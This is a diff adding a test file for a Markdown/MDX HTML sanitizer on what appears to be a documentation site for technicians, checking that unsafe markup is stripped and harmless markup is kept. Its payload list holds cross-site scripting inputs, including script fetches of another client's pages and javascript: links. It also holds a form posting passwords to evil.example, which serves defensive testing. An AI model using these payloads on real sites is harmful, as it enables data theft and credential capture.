@@ -1,0 +1,147 @@
+import { markdownToHtml, mdxToJs } from 'satteri';
+import { describe, expect, it } from 'vitest';
+import { sanitizeContentHtml } from './markdown-plugins.ts';
+
+/**
+ * The site's content plugins through Sätteri itself (the engine Astro runs), without a site build:
+ * test/site/site-build.test.ts builds a real site with them.
+ */
+const render = async (markdown: string) =>
+  (await markdownToHtml(markdown, { hastPlugins: [sanitizeContentHtml] })).html;
+
+// What technicians might paste into a binder section or tech note (the audit's, and issue 10's).
+const PAYLOADS = [
+  "<script>fetch('/clients/other-client/binder/firewall/')</script>",
+  '<img src=x onerror="fetch(\'/clients/other-client/\')">',
+  "<img src=x onerror=fetch('/clients/other-client/')>",
+  '<svg onload="alert(1)"><circle r="5"/></svg>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<details ontoggle="alert(1)" open><summary>open me</summary>toggled</details>',
+  '<a href="javascript:alert(1)">raw link</a>',
+  "[markdown link](javascript:alert('md'))",
+  '<javascript:alert(1)>',
+  '[a](JaVaScRiPt:alert(1))',
+  '<a href="jav&#x09;ascript:alert(1)">ent</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
+  '<form action="https://evil.example/steal"><input type="password" name="pw"><button formaction="javascript:alert(1)">Log in</button></form>',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed;inset:0">overlay</p>',
+  '<object data="x"></object><embed src="x">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+];
+
+describe('sanitizeContentHtml', () => {
+  it.each(PAYLOADS)('drops what runs, frames or asks: %s', async (payload) => {
+    const html = await render(`Before.\n\n${payload}\n\nAfter.\n`);
+    // Judged on tags: a payload that is not HTML to begin with is shown as its text, escaped.
+    expect(html).not.toMatch(
+      /<(?:script|style|iframe|object|embed|form|input|button|base|meta|math|circle)\b/i,
+    );
+    expect(html).not.toMatch(/<[^>]*\s(?:on[a-z]+|style)\s*=/i);
+    expect(html).not.toMatch(/<[^>]*\s(?:href|src|action|formaction)\s*=\s*"?\s*(?:javascript|data):/i);
+    expect(html).toContain('After.');
+  });
+
+  it('keeps the HTML people use in binders, tables and task lists as Markdown makes them', async () => {
+    const html = await render(
+      [
+        '| Port | Use |',
+        '|:-----|----:|',
+        '| 443 | <kbd>HTTPS</kbd> |',
+        '',
+        '- [x] Tested',
+        '',
+        'A <abbr title="Uninterruptible power supply">UPS</abbr> line<br>break, H<sub>2</sub>O, x<sup>2</sup>, <mark>new</mark>.',
+        '',
+        '<details>',
+        '<summary>Old firewall rules</summary>',
+        '',
+        'Kept for **reference**.',
+        '',
+        '</details>',
+        '',
+        'Mail <a href="mailto:help@example.com">help</a>, see <a href="https://example.com/docs">the docs</a>.',
+        '',
+        '![Rack](https://example.com/rack.png)',
+      ].join('\n'),
+    );
+    expect(html).toContain('<th style="text-align: left">Port</th>');
+    expect(html).toContain('<td style="text-align: right"><kbd>HTTPS</kbd></td>');
+    expect(html).toContain('<input type="checkbox" checked disabled>');
+    expect(html).toContain('<abbr title="Uninterruptible power supply">UPS</abbr>');
+    expect(html).toMatch(/line<br>break, H<sub>2<\/sub>O, x<sup>2<\/sup>, <mark>new<\/mark>/);
+    expect(html).toMatch(
+      /<details>\s*<summary>Old firewall rules<\/summary>\s*<p>Kept for <strong>reference<\/strong>.<\/p>\s*<\/details>/,
+    );
+    expect(html).toContain('<a href="mailto:help@example.com">help</a>');
+    expect(html).toContain('<a href="https://example.com/docs">the docs</a>');
+    expect(html).toContain('<img src="https://example.com/rack.png" alt="Rack">');
+  });
+
+  it('parses raw HTML links into elements, so relative ones can be resolved like Markdown links', async () => {
+    const hrefs: unknown[] = [];
+    const { html } = await markdownToHtml('See <a href="./overview.md#wan">the overview</a>.', {
+      hastPlugins: [
+        sanitizeContentHtml,
+        { name: 'probe', element: { filter: ['a'], visit: (node) => void hrefs.push(node.properties.href) } },
+      ],
+    });
+    expect(hrefs).toEqual(['./overview.md#wan']);
+    expect(html.trim()).toBe('<p>See <a href="./overview.md#wan">the overview</a>.</p>');
+  });
+
+  it('drops HTML comments, raw or in a block (a staff-only remark never ships)', async () => {
+    const html = await render(
+      'Text <!-- staff only: inline --> here.\n\n<!-- staff only: the NAS admin is shared -->\n',
+    );
+    expect(html).not.toContain('staff only');
+    expect(html).toContain('Text  here.');
+  });
+
+  it('keeps footnotes working (ids prefixed once, as their links expect)', async () => {
+    const html = await render('Claim[^1].\n\n[^1]: Source.\n');
+    expect(html).toContain('href="#user-content-fn-1" id="user-content-fnref-1"');
+    expect(html).toContain('<li id="user-content-fn-1">');
+    expect(html).toContain('href="#user-content-fnref-1"');
+  });
+
+  it('keeps a code block’s language and meta for the highlighter', async () => {
+    const meta: unknown[] = [];
+    await markdownToHtml('<b>raw</b>\n\n```sh title="backup.sh"\nrestic backup\n```\n', {
+      hastPlugins: [
+        sanitizeContentHtml,
+        {
+          name: 'probe',
+          element: { filter: ['code'], visit: (node) => void meta.push(node.data) },
+        },
+      ],
+    });
+    expect(meta).toEqual([{ lang: 'sh', meta: 'title="backup.sh"' }]);
+  });
+
+  it('in MDX, sanitizes HTML elements and keeps Starlight components, dropping their unsafe links', async () => {
+    const { code } = await mdxToJs(
+      [
+        "import { Aside, LinkCard } from '@astrojs/starlight/components';",
+        '',
+        '<Aside type="note">Hi <b onclick="alert(1)">there</b></Aside>',
+        '',
+        '<img src="x" onerror="alert(1)" />',
+        '',
+        '<script>alert(2)</script>',
+        '',
+        '<LinkCard title="Bad" href="javascript:alert(3)" />',
+        '<LinkCard title="Good" href="https://example.com/" />',
+        '',
+        '<kbd>Ctrl</kbd>',
+      ].join('\n'),
+      { hastPlugins: [sanitizeContentHtml], jsxImportSource: 'astro', elementAttributeNameCase: 'html' },
+    );
+    expect(code).toContain('import { Aside, LinkCard } from "@astrojs/starlight/components"');
+    expect(code).toMatch(/_jsxs?\(Aside, \{\s*type: "note"/);
+    expect(code).not.toMatch(/onclick|onerror|alert\(|javascript:/);
+    expect(code).toContain('href: "https://example.com/"');
+    expect(code).toMatch(/kbd/);
+  });
+});
